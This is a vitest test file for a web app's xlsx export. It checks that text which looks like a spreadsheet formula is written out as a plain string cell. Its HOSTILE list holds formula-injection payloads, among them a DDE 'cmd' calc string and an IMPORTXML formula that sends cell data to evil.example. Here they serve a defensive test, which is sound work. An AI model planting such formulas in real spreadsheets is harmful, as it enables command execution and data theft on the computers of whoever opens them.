import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { read, utils, type CellObject, type WorkBook } from '@e965/xlsx';
import { describe, expect, it } from 'vitest';
import { xlsxFile } from '../../src/server/archive/xlsxFile.ts';
import type { CompiledColumn } from '../../src/kernel/form.ts';
import { writeBook } from '../../src/widgets/subTable/data/book.ts';
import { definitions } from '../../src/server/widgets.generated.ts';
import { isTextCell } from '../../src/widgets/subTable/grid/clipboard.ts';

/** Texts that a spreadsheet would run, were they not texts. */
const HOSTILE = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example","点我")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '=IMPORTXML("http://evil.example/?"&A1,"//a")',
  '|calc',
  '%0A=1+1',
  '"=1+1',
  "'=1+1",
  '{=1+1}',
];

/** What carriage returns become in XML is not what is asked here. */
const plain = (text: string): string => text.replace(/\r\n?/g, '\n');

function expectTexts(book: WorkBook): void {
  const sheet = book.Sheets[book.SheetNames[0] as string] ?? {};
  const cells = Object.entries(sheet)
    .filter(([at]) => /^A\d+$/.test(at))
    .map(([, cell]) => cell as CellObject);
  expect(cells.filter(({ f, l }) => f !== undefined || l !== undefined)).toEqual([]);
  expect(cells.map(({ t }) => t).filter((type) => type !== 's')).toEqual([]);
  expect(
    utils
      .sheet_to_json<string[]>(sheet, { header: 1, blankrows: true })
      .slice(1)
      .map(([text]) => plain(text ?? '')),
  ).toEqual(HOSTILE.map(plain));
}

describe('a text that looks like a formula', () => {
  it('leaves the server as the text of its cell', async () => {
    const parts: Buffer[] = [];
    for await (const part of xlsxFile(
      '=1+1',
      [{ title: '内容' }],
      HOSTILE.map((text) => [text]),
    ))
      parts.push(part);
    expectTexts(read(Buffer.concat(parts), { cellFormula: true }));
  });

  it('leaves the page as the text of its cell', async () => {
    const blob = await writeBook([{ name: '表', rows: [['内容'], ...HOSTILE.map((text) => [text])], widths: [20] }]);
    expectTexts(read(new Uint8Array(await blob.arrayBuffer()), { cellFormula: true }));
  });
});

it('a text that looks like a mark of the workbook leaves server and page as it is', async () => {
  const texts = ['code_x0041_end', '_x0041_x0042_', '_x005F_x0041_', '_x00e9_', '_x12_ _x00410_'];
  const parts: Buffer[] = [];
  for await (const part of xlsxFile(
    '_x0041_',
    [{ title: '_x0042_' }],
    texts.map((text) => [text]),
  ))
    parts.push(part);
  const page = await writeBook([{ name: '表', rows: [['_x0042_'], ...texts.map((text) => [text])], widths: [20] }]);
  const [served, made] = [read(Buffer.concat(parts)), read(new Uint8Array(await page.arrayBuffer()))];
  expect(served.SheetNames).toEqual(['_x0041_']);
  for (const { Sheets, SheetNames } of [served, made])
    expect(utils.sheet_to_json<string[]>(Sheets[SheetNames[0] ?? ''] ?? {}, { header: 1 }).flat()).toEqual([
      '_x0042_',
      ...texts,
    ]);
});

it('a text that is copied from a table is told to be one, a number is not', () => {
  const column = (tag: string, valueType: string) =>
    ({
      node: { tag },
      valueType,
      definition: definitions.find((definition) => definition.tag === tag),
    }) as unknown as CompiledColumn;
  for (const text of HOSTILE.filter((one) => /^\s*[=+\-@]/.test(one)))
    for (const tag of ['el-input', 'el-select', 'el-cascader', 'userSelector'])
      expect(isTextCell(column(tag, 'string'), text), `${tag} ${text}`).toBe(true);
  expect([
    isTextCell(column('el-input-number', 'double'), '-5'),
    isTextCell(column('el-select', 'string'), '一月'),
  ]).toEqual([false, false]);
});

const sources = (folder: string): string[] =>
  readdirSync(folder, { withFileTypes: true }).flatMap((entry) =>
    entry.isDirectory()
      ? sources(join(folder, entry.name))
      : /\.tsx?$/.test(entry.name)
        ? [join(folder, entry.name)]
        : [],
  );

it('every table that is made is made by one of the two: nothing else writes a workbook, and nothing writes CSV', () => {
  const makers = sources('src').filter((path) => {
    const text = readFileSync(path, 'utf8');
    return (
      /book_append_sheet|spreadsheetml\.sheet\.main/.test(text) ||
      (/text\/csv|\.csv['"`]/.test(text) && !path.endsWith(join('files', 'fileTypes.ts')))
    );
  });
  expect(makers.map((path) => path.replaceAll('\\', '/')).toSorted()).toEqual([
    'src/server/archive/xlsxFile.ts',
    'src/widgets/subTable/data/book.ts',
  ]);
});
